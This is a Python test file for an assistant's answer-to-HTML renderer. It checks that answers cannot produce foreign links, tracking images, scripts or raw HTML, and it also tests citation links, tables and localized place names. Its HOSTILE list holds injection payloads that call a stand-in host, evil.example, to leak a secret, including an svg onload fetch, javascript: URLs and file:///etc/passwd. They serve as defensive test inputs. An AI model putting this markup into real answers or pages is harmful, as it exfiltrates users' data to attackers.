"""Answers as HTML: nothing in content gets to be a link to elsewhere, an image, a script or raw HTML."""

from __future__ import annotations

from typing import get_args

import pytest
from hypothesis import given
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser as HTMLParser

from assistant.answering.places import place_told
from assistant.domain.content import Locator, LocatorUnit
from integrations.surfaces.http.links import may_link
from integrations.surfaces.http.readable import Row, parts, readable, stretches
from integrations.surfaces.http.rendering import answer_html

EVIL = "https://evil.example/leak?q=secret"
HOSTILE = [
    f"[click]({EVIL})",
    f"![pixel]({EVIL})",
    f"[![both]({EVIL})]({EVIL})",
    f"<{EVIL}>",
    EVIL,
    f"[ref][1]\n\n[1]: {EVIL}",
    f"![ref][1]\n\n[1]: {EVIL}",
    f'<img src="{EVIL}">',
    f'<a href="{EVIL}">x</a>',
    f"<script src='{EVIL}'></script>",
    f'<iframe src="{EVIL}"></iframe>',
    f"<svg onload=fetch('{EVIL}')>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "[x](//evil.example/leak)",
    "[x](\\\\evil.example\\leak)",
    "[x](https:evil.example)",
    "[x](https://docs.example@evil.example/)",
    "[x](https://docs.example:8443@evil.example/)",
    "[x](https://docs.example.evil.example/)",
    "[x](https://evil.example#docs.example)",
    "[x](https://evil.example\\@docs.example/)",
    "[x](https://docs.example&#46;evil.example/)",
    "[x](http://docs.example/)",
    "[x](https://docs.example:8443/)",
    "[x](https://dоcs.example/)",
    "[x](file:///etc/passwd)",
    f"# [head]({EVIL})\n\n> [quote]({EVIL})\n\n- [item]({EVIL})\n\n| [cell]({EVIL}) |\n|---|\n| ![img]({EVIL}) |",
    f"[a\n]( {EVIL} 'title')",
    f"[<b>x</b>]({EVIL})[1]",
    f"[1]({EVIL})",
    f"<style>@import url({EVIL})</style>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"&lt;img src={EVIL}&gt;",
]
KNOWN_TAGS = {
    "p",
    "a",
    "ul",
    "ol",
    "li",
    "em",
    "strong",
    "code",
    "pre",
    "blockquote",
    "br",
    "hr",
    "h3",
    "table",
    "thead",
}
KNOWN_TAGS |= {"tbody", "tr", "th", "td", "html", "head", "body"}


def hrefs(html: str) -> list[str]:
    return [node.attributes.get("href") or "" for node in HTMLParser(html).css("[href]")]


def loads(html: str) -> list[str]:
    """Everything in a page that a browser would fetch by itself or run."""
    tree = HTMLParser(html)
    active = [str(node.tag) for node in tree.css("*") if node.tag not in KNOWN_TAGS]
    handlers = [name for node in tree.css("*") for name in node.attributes if name.startswith("on") or name == "style"]
    return active + handlers + [str(node.attributes["src"]) for node in tree.css("[src]")]


@pytest.mark.parametrize("text", HOSTILE)
def test_no_hostile_text_becomes_a_link_or_is_loaded(text: str) -> None:
    html = str(answer_html(f"Before. {text} [1]", citations=1, hosts=["docs.example"]))
    assert [link for link in hrefs(html) if link != "#source-1"] == []
    assert loads(html) == []


def test_an_allowed_host_is_linked_and_says_nothing_about_where_the_reader_came_from() -> None:
    html = str(answer_html("See [the guide](https://docs.example/a?b=1).", citations=0, hosts=["docs.example"]))
    assert hrefs(html) == ["https://docs.example/a?b=1"]
    assert 'rel="noopener noreferrer nofollow"' in html
    assert hrefs(str(answer_html("[the guide](https://docs.example/a)", citations=0))) == []


def test_marks_lead_to_the_sources_that_exist_and_others_stay_text() -> None:
    html = str(answer_html("First. [1] Second. [2] Third. [7] `[1]`", citations=2))
    assert hrefs(html) == ["#source-1", "#source-2"]
    assert "[7]" in html
    assert "<code>[1]</code>" in html


def test_lists_tables_and_emphasis_stay_what_they_are() -> None:
    html = str(answer_html("**Bold**\n\n- a\n- b\n\n| x | y |\n|---|---|\n| 1 | 2 |", citations=0))
    assert all(tag in html for tag in ("<strong>", "<li>", "<td>"))


@given(text=st.text(alphabet=st.sampled_from(list("[]()<>!*_`#|-\\:/ \nahtps.&;\"'=1\x00")), max_size=80))
def test_no_arrangement_of_marks_makes_a_foreign_link(text: str) -> None:
    html = str(answer_html(text + f"]({EVIL})", citations=3, hosts=["docs.example"]))
    assert all(link.startswith("#source-") for link in hrefs(html))
    assert loads(html) == []


@given(text=st.text(max_size=60))
def test_only_https_addresses_of_allowed_hosts_may_be_linked(text: str) -> None:
    assert not may_link(text, ["docs.example"]) or text.casefold().startswith("https://docs.example")


@given(text=st.text(max_size=50), offset=st.integers(0, 100), start=st.integers(0, 200), end=st.integers(0, 200))
def test_the_source_view_shows_the_whole_passage_and_marks_the_quote(
    text: str, offset: int, start: int, end: int
) -> None:
    pieces = stretches(text, offset=offset, start=start, end=end)
    assert "".join(piece.text for piece in pieces) == text
    quoted = "".join(piece.text for piece in pieces if piece.quoted)
    assert quoted == text[max(0, start - offset) : max(0, end - offset)]


TABLE = (
    "Open registrations by tier.\n\n| Tier | Open |\n|---|---|\n| Silver | 40 |\n| **Gold** | 120 |\n\nAsk for more."
)


def test_the_source_view_shows_a_table_as_a_table_and_marks_the_rows_that_are_quoted() -> None:
    start = TABLE.index("| **Gold**")
    before, table, after = parts(TABLE, offset=1000, start=1000 + start, end=1000 + start + 10)
    assert [piece.text for part in (before, after) for piece in part.stretches] == [
        "Open registrations by tier.",
        "Ask for more.",
    ]
    assert table.rows == (
        Row(("Tier", "Open"), quoted=False),
        Row(("Silver", "40"), quoted=False),
        Row(("Gold", "120"), quoted=True),
    )


@given(st.text(alphabet="ab \n|-", max_size=80), st.integers(0, 90), st.integers(0, 90))
def test_the_source_view_loses_no_word_of_a_passage_whatever_is_quoted(text: str, start: int, end: int) -> None:
    found = parts(text, offset=0, start=start, end=end)
    shown = "".join(s.text for p in found for s in p.stretches) + "".join(
        c for p in found for r in p.rows for c in r.cells
    )
    assert sorted(c for c in shown if c in "ab") == sorted(c for c in text if c in "ab")


def test_the_quote_on_a_card_has_the_rows_of_a_table_without_their_bars() -> None:
    assert readable(TABLE) == "Open registrations by tier.\nTier · Open\nSilver · 40\nGold · 120\nAsk for more."


def test_rows_of_a_table_in_an_answer_stay_on_lines_of_their_own() -> None:
    assert "<br" in answer_html("Silver · 40\nGold · 120 [1]", citations=1)


def test_a_place_is_named_in_the_language_of_whoever_reads_it() -> None:
    assert place_told(Locator("line", "4", "6"), "de") == "Zeilen 4–6"
    assert place_told(Locator("page", "3", "3"), "de") == "Seite 3"
    assert place_told(Locator("row", "2", "2", part="Preise"), "de") == "Blatt Preise, Zeile 2"
    assert place_told(Locator("slide", "7", "7", part="notes"), "de") == "Folie 7 (Notizen)"
    assert place_told(Locator("paragraph", "1", "2"), "ja-JP") == "第1–2段落"
    assert place_told(Locator("line", "4", "6"), "cs") == "lines 4–6"
    for unit in get_args(LocatorUnit):
        assert place_told(Locator(unit, "4", "6"), "en") == str(Locator(unit, "4", "6"))
